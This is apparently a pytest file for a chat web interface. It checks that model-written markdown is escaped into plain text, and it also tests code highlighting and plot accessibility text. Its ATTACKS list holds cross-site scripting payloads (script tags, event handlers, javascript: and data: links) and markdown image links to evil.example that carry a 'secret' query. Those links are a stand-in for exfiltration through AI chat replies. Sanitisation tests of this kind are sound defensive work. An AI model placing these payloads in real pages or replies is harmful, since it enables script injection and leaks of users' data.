"""What a model writes becomes text on the page, never markup of its own."""

from __future__ import annotations

import re

import pytest

from web.markup import escape, reply_html
from web.plot import plot

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[link](javascript:alert(1))",
    "[link](  javascript:alert(1))",
    "[link](data:text/html,<script>alert(1)</script>)",
    "[link](vbscript:x)",
    '[link](http://x "onmouseover=alert(1) ")',
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "![x][r]\n\n[r]: http://evil.example/",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<b onclick=alert(1)>`",
    "<a href='http://x'>x</a>",
    "<style>*{display:none}</style>",
    "| <img src=x onerror=alert(1)> | b |\n|-|-|\n| <b> | d |",
    "\n\n<div>\n\n<script>alert(1)</script>\n\n</div>",
]
TEXT = {"p", "br", "em", "strong", "s", "a", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "hr"}
OUR_TAGS = TEXT | {"code", "pre", "span", "button", "table", "thead", "tbody", "tr", "th", "td"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_markup_of_the_model_survives(attack: str) -> None:
    for made in (reply_html(attack), f"<div>{escape(attack)}</div>"):
        tags = {tag.casefold() for tag in re.findall(r"</?\s*([a-zA-Z][\w-]*)", made)} - {"div"}
        assert tags <= OUR_TAGS
        inside = " ".join(re.findall(r"<[^>]*>", made))
        assert not re.search(r"\son\w+\s*=", re.sub(r'"[^"]*"', '""', inside), re.IGNORECASE)
        assert not re.search(r'(href|src)="\s*(javascript|data|vbscript):', inside, re.IGNORECASE)


def test_the_html_is_one_line_so_that_it_stays_one_block() -> None:
    assert "\n" not in reply_html("a\n\nb\n\n```python\nx = 1\n\n\ny = 2\n```\n")
    assert "\n" not in escape("a\n\nb")


def test_code_is_coloured_and_keeps_its_lines() -> None:
    made = reply_html("```python\ndef f():\n    return 1\n```")
    assert '<span class="k">def</span>' in made
    assert "&#10;" in made
    assert "do-copy-code" in made


def test_unknown_languages_and_broken_markdown_are_shown_as_they_are() -> None:
    assert "x = 1" in reply_html("```no-such-language\nx = 1\n```")
    assert "never closed" in reply_html("```\nnever closed")


def test_a_plot_tells_its_numbers_to_those_who_do_not_see_it() -> None:
    drawn = plot([1.0, 3.0, 2.0], "Speed", "tokens/s")
    assert 'role="img"' in drawn
    assert "last 2.00 tokens/s, lowest 1.00, highest 3.00" in drawn
    assert plot([], "Speed", "s") == ""
    assert "nan" not in plot([0.0], "Speed", "s")
